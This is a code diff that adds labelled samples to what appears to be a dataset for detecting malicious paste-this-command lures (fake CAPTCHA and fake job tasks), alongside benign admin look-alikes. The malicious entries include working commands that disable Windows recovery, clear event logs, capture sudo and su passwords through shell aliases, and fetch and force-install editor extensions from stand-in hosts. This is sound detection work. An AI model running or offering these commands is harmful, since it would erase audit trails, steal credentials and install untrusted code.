@@ -542,6 +542,63 @@ book.lures(
     ],
 )
 
+# ---- recovery switched off and event logs emptied (T1490, T1070.001), a fake sudo written as an
+# alias (T1056.002), an editor extension downloaded and installed (fake job tasks, 2025) ----------
+book.lures(
+    "recovery-and-logs",
+    "windows",
+    "run_dialog",
+    CAPTCHA,
+    [
+        "bcdedit /set {default} recoveryenabled no & bcdedit /set {default} bootstatuspolicy ignoreallfailures",
+        "reagentc /disable",
+        "Clear-EventLog -LogName Application, System, Security",
+        "Get-WinEvent -ListLog * | ForEach-Object { [System.Diagnostics.Eventing.Reader.EventLogSession]::"
+        "GlobalSession.ClearLog($_.LogName) }",
+    ],
+)
+book.look_alikes(
+    [
+        (
+            "recovery-and-logs-bare-prose",
+            "windows",
+            [
+                (
+                    "run_dialog",
+                    CAPTCHA[1],
+                    "malicious",
+                    'wevtutil cl System & wevtutil cl Security & wevtutil cl "Windows PowerShell"',
+                ),
+            ],
+        ),
+    ]
+)
+book.lures(
+    "fake-sudo-alias",
+    "linux",
+    "terminal",
+    LINUX,
+    [
+        'echo "alias sudo=\'sudo -S <<< \\$(read -sp \\"[sudo] password: \\" p; echo \\$p | tee -a /tmp/.p)\'" '
+        ">> ~/.bashrc",
+        "echo \"alias su='read -s -p Password: p; echo \\$p >> ~/.cache/.s; command su'\" >> ~/.zshrc",
+    ],
+)
+book.lures(
+    "extension-download",
+    "any",
+    "terminal",
+    JOB,
+    [
+        "wget -qO ~/Downloads/theme.vsix https://198.51.100.12/theme.vsix; cursor --install-extension "
+        "~/Downloads/theme.vsix --force",
+        "curl -sLo /tmp/lint.vsix https://files.kestrel-share.test/lint.vsix && code --install-extension /tmp/lint.vsix",
+        "iwr https://files.kestrel-share.test/dbg.vsix -OutFile $env:TEMP\\dbg.vsix; code --install-extension "
+        "$env:TEMP\\dbg.vsix",
+    ],
+    in_context="flagged",
+)
+
 # ==== look-alikes: what admins, developers and banks write ===========================================
 book.benign(
     "wmi-admin",
@@ -642,6 +699,46 @@ book.benign(
         "--user-data-dir=C:\\temp\\chrome-profile",
         "google-chrome --load-extension=./dist --user-data-dir=/tmp/ext-test",
         "chromium --headless --dump-dom https://example.com",
+    ],
+)
+book.benign(
+    "recovery-logs-admin",
+    "windows",
+    "terminal",
+    WIKI,
+    [
+        "bcdedit /enum",
+        "bcdedit /set {current} safeboot minimal",
+        "wevtutil qe System /c:20 /f:text /rd:true",
+        "wevtutil epl Security C:\\Logs\\sec.evtx",
+        "reagentc /info",
+        "reagentc /enable",
+        "wevtutil cl Microsoft-Windows-TerminalServices-RDPClient/Operational",
+        "Get-EventLog -LogName System -Newest 50",
+    ],
+)
+book.benign(
+    "shell-aliases",
+    "linux",
+    "terminal",
+    "https://askubuntu.example/q/22037",
+    [
+        "echo \"alias sudo='sudo '\" >> ~/.bashrc",
+        "echo 'alias please=\"sudo \\$(fc -ln -1)\"' >> ~/.bashrc",
+        "echo \"alias ll='ls -alF'\" >> ~/.bashrc",
+    ],
+)
+book.benign(
+    "editor-extensions",
+    "any",
+    "terminal",
+    "https://code.visualstudio.com/docs/setup/enterprise",
+    [
+        "code --install-extension ms-python.python",
+        "code --install-extension ./dist/my-extension-0.1.0.vsix",
+        "curl -L -o ext.vsix https://marketplace.visualstudio.com/_apis/public/gallery/publishers/ms-python/"
+        "vsextensions/python/latest/vspackage && code --install-extension ext.vsix",
+        "code --list-extensions --show-versions",
     ],
 )
 book.benign(
